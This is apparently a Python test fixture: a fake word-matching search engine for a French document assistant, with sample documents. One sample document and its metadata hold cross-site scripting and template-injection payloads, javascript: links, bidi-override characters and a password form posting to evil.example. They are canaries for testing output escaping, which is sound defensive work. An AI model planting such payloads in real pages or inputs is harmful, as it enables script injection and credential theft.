"""A small real engine for the page: sentences of a few documents, ranked by the words they share with the question."""

import re
from collections.abc import Iterator, Sequence
from dataclasses import replace

from assistant.answer import Answer, Citation, Fact, Searched, Tier, WrittenSentence
from assistant.state import IndexState, Versions
from assistant.write.phrases import notice
from corpus.dates import PartialDate
from corpus.document import Document, Passage
from corpus.errors import AssistantError
from corpus.plain import fold, plain
from index.hit import Filters, Hit
from index.report import FileRow
from index.store import Entry

MAX_CHARACTERS = 500
BEST = 3

_PARAGRAPH = re.compile(r"[^\n]+(?:\n(?!\n)[^\n]+)*")
_SENTENCE = re.compile(r"\S.*?(?:[.!?](?=\s|$)|$)", re.MULTILINE)
_WHEN = re.compile(r"du \d+ au \d+ \w+ \d{4}|la semaine dernière")
_HOW_MANY = re.compile(r"\d[\d ]*\d habitants|deux millions")
_SPEAKER = re.compile(r"a déclaré (\w+ \w+)")
_COMMON = {"dans", "pour", "avec", "une", "des", "les", "que", "qui", "est", "sont", "quel", "quelle", "quand"}


class EmptyQuestionError(AssistantError):
    """The question has no word."""


class QuestionTooLongError(AssistantError):
    """The question is longer than MAX_CHARACTERS."""


class WordEngine:
    """Quotes the sentences that share two words or more with the question; remembers what it was asked.

    Two words shared are an uncertain answer. "Quand" and "Combien" are answered by a fact, in front for the first. A question
    that begins with "Résume" is answered in written sentences, the second of them flagged.
    """

    def __init__(self, documents: Sequence[Document]) -> None:
        self._documents = {document.id: document for document in documents}
        self.asked: list[tuple[str, Filters, tuple[str, ...]]] = []

    def ask(self, question: str, *, filters: Filters = Filters(), previous: Sequence[str] = ()) -> Answer:
        self.asked.append((question, filters, tuple(previous)))
        if question == "bug":
            raise RuntimeError("secret")
        if not question:
            raise EmptyQuestionError("empty")
        if len(question) > MAX_CHARACTERS:
            raise QuestionTooLongError("too long")
        follows = bool(previous) and question.startswith("Et ")
        understood = f"{previous[-1]} {question}" if follows else None
        found = sorted(self._sentences(_words(understood or question), filters), key=lambda found: (-found[0], found[1].id))
        hits = tuple(Hit(passage, float(score), rank, None) for rank, (score, passage, _, _) in enumerate(found, 1))
        best = [row for row in found if row[0] >= 2][:BEST]
        if not best:
            return Answer(question, REFUSAL, (), Tier.ABSENT, "no_support", (), hits, "fr", understood)
        citations = tuple(self._citation(number, *row[1:]) for number, row in enumerate(best, 1))
        text = "\n".join(f"« {plain(citation.quote)} » [{citation.number}]" for citation in citations)
        written = _written(citations) if question.startswith("Résume") else ()
        notices = ((NOTICE,) if filters.active else ()) + ((notice("written", "fr"),) if written else ())
        tier = Tier.SURE if best[0][0] > 2 else Tier.UNCERTAIN
        fact = self._fact(question, citations)
        return Answer(question, text, citations, tier, None, notices, hits, "fr", understood, fact, written)

    def stream(self, question: str, *, filters: Filters = Filters(), previous: Sequence[str] = ()) -> Iterator[Answer]:
        yield replace(self.ask(question, filters=filters, previous=previous), generation=GENERATION)

    def search(self, question, *, limit=10, filters: Filters = Filters(), previous=()) -> Searched:
        return Searched(question, self.ask(question, filters=filters, previous=previous).hits[:limit], ())

    def generation(self) -> str:
        return GENERATION

    def current(self) -> "WordEngine":
        return self

    def document(self, document_id: str) -> Document | None:
        return self._documents.get(document_id)

    def kinds(self) -> tuple[str, ...]:
        return tuple(dict.fromkeys(document.kind for document in self._documents.values() if document.kind))

    def document_count(self) -> int:
        return len(self._documents)

    def entries(self) -> list[Entry]:
        found = (self._documents[identity] for identity in sorted(self._documents))
        return [Entry(one.id, one.title, one.date, one.kind, one.publisher, one.language) for one in found]

    def state(self) -> IndexState:
        passages = sum(
            1 for document in self._documents.values() for _ in _PARAGRAPH.finditer(document.text, document.body_start)
        )
        return IndexState(GENERATION, "2026-11-26T09:30:00+00:00", len(self._documents), passages, TOLD)

    def versions(self, document_id: str) -> Versions:
        return VERSIONS.get(document_id, Versions())

    def _fact(self, question: str, citations: Sequence[Citation]) -> Fact | None:
        kind, pattern = ("when", _WHEN) if question.startswith("Quand") else ("how_many", _HOW_MANY)
        if kind == "how_many" and not question.startswith("Combien"):
            return None
        for citation in citations:
            if found := pattern.search(citation.quote):
                start, end = citation.start + found.start(), citation.start + found.end()
                resolved = citation.date.isoformat() if found[0] == "la semaine dernière" else None
                return Fact(kind, citation.number, start, end, found[0], resolved, leads=kind == "when")
        return None

    def _sentences(self, words: set[str], filters: Filters) -> Iterator[tuple[int, Passage, int, int]]:
        for document in self._documents.values():
            if filters.kinds and document.kind not in filters.kinds:
                continue
            if filters.since and not (document.date and document.date.last_day >= filters.since):
                continue
            for paragraph in _PARAGRAPH.finditer(document.text, document.body_start):
                passage = Passage(document.id, paragraph.start(), paragraph.end(), "", paragraph[0])
                for sentence in _SENTENCE.finditer(paragraph[0]):
                    if shared := len(words & _words(plain(sentence[0]))):
                        yield shared, passage, passage.start + sentence.start(), passage.start + sentence.end()

    def _citation(self, number: int, passage: Passage, start: int, end: int) -> Citation:
        document = self._documents[passage.document_id]
        page, quote, source = document.page_at(start), document.text[start:end], document.source
        speaker = found[1] if (found := _SPEAKER.search(quote)) else None
        return Citation(number, document.id, document.label, document.date, source, page, start, end, quote, speaker)


def _written(citations: Sequence[Citation]) -> tuple[WrittenSentence, ...]:
    first, *others = (WrittenSentence(f"{plain(one.quote)} [{one.number}]", (one.number,), False) for one in citations)
    return (first, *(WrittenSentence(one.text, one.citations, True) for one in others))


GENERATION = "000007-abcdef01"
REFUSAL = (
    "Je n’ai pas trouvé, dans le corpus, de passage qui réponde à cette question.\n"
    "Reformulez-la avec d’autres mots, ou élargissez la période."
)
TOLD = (
    FileRow("scan<b>.pdf", "skipped", "no_text", "no text layer; run OCR on it, then rebuild"),
    FileRow("reen.pdf", "indexed", warnings=("pages_without_text: 3",)),
)
VERSIONS = {"events/barcelone.md": Versions(("events/barcelone <copie>.txt",), ("reen.pdf",))}
NOTICE = "Les documents hors des filtres n’ont pas été cherchés."


def _words(text: str) -> set[str]:
    return {word[:7] for word in re.findall(r"\w+", fold(text)) if len(word) > 2 and word not in _COMMON}


def _document(document_id: str, title: str, text: str, date: PartialDate | None, kind: str | None, **more) -> Document:
    front = f'---\ntitle: "{title[:20]}"\n---\n'
    source = more.pop("source", document_id)
    publisher = more.pop("publisher", "Réseau des villes (fictif)")
    language = more.pop("language", "fr")
    more = {"pages": tuple(len(front) + text.index(mark) for mark in more.get("pages", ()))}
    return Document(document_id, title, front + text, date, kind, publisher, language, source, **more, body_start=len(front))


MEDIATION = """# Pour un financement pérenne de la médiation numérique

## Ce que nous constatons

La baisse annoncée des crédits fragilise la filière. Les **conseillers numériques** ont accompagné deux millions de \
personnes.

## Ce que nous demandons

L'association défend un financement pluriannuel de la *médiation numérique*, garanti par \
l'[État](https://example.org/etat). Elle rappelle que la dématérialisation ne doit jamais supprimer l'accueil physique.

- Un lieu de médiation numérique dans chaque bassin de vie.
- Un conseiller numérique pour dix mille habitants.

Ces deux demandes ont été votées à l'unanimité.
"""
EXPO = """Le Smart City Expo s'est tenu à Barcelone du 5 au 7 novembre 2024. Une dizaine de villes y avaient un stand.

La réunion du Club IA métropolitain s'est tenue à l'initiative de la métropole. Les échanges ont porté sur les usages \
de l'intelligence artificielle par les villes européennes et sur la place du débat public.

La médiation numérique était au centre de la table ronde de clôture. « Les villes demandent un cadre stable pour leurs \
données », a déclaré Anne Exemple. Le jury des trophées s'est réuni la semaine dernière.
"""
REEN = """Ce que prévoit la loi REEN pour les communes

La loi REEN prévoit une stratégie numérique responsable pour les communes de plus de 50 000 habitants. Elle devait \
être élaborée avant le 1er janvier 2025.

Deuxième page : le réemploi des équipements est la première mesure citée par les communes.
"""
POISON = (
    """# Zébulon <script>window.poisoned = 1</script>

Zébulon piégé <script>window.poisoned = 1</script> <img src=x onerror="window.poisoned = 1"> ${window.poisoned = 1} \
{{7*7}} {{constructor.constructor('window.poisoned = 1')()}} [lien](javascript:window.poisoned=1) **gras** \
\u202etxet\u202c <a href="javascript:window.poisoned=1">clic</a> <svg onload="window.poisoned = 1"> </span></p></div>fin

<form action="https://evil.example"><input type=password></form> zébulon piégé <style>* { display: none }</style>

Zébulon piégé $$\\href{javascript:window.poisoned=1}{x}$$ \\(y\\) ![image](https://evil.example/i.png) `code` \u2066txet\u2069

Zébulon piégé """
    + "W" * 10_000
    + "\n"
)


def sample_documents() -> tuple[Document, ...]:
    """Return documents of every kind of trouble: odd id, pages, partial date, no kind, unknown kind, poison."""
    return (
        _document(
            "notes/2024 été/a&b.md",
            "Pour un financement pérenne de la médiation numérique",
            MEDIATION,
            PartialDate(2023, 9, 21),
            "position",
            source="https://example.org/positions/mediation?an=2023",
        ),
        _document("events/barcelone.md", "Une semaine à Barcelone", EXPO, PartialDate(2024, 11), "event"),
        _document("reen.pdf", "La loi REEN en deux pages", REEN, PartialDate(2022), "report", pages=("Ce que", "Deux")),
        _document(
            "poison.md",
            "Zébulon <img src=x onerror='window.poisoned = 1'> ${window.poisoned = 1}",
            POISON,
            None,
            "<b>piège</b>",
            source="javascript:window.poisoned=1",
            publisher="<script>window.poisoned = 1</script>",
            language='fr"onclick="window.poisoned=1',
        ),
        _document("sans-type.txt", "", "Une note sans titre ni type ni date.\n", None, None, publisher=None),
    )
